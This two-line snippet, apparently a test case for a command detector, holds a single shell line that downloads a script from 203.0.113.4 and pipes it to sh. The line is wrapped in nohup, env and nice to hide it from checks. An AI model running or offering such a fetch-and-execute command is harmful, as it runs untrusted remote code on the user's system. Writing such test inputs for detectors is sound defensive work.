# tricky: started by env, nohup and nice
nohup env -i PATH=/bin nice -n 5 bash -c 'curl -s http://203.0.113.4/i | sh' &
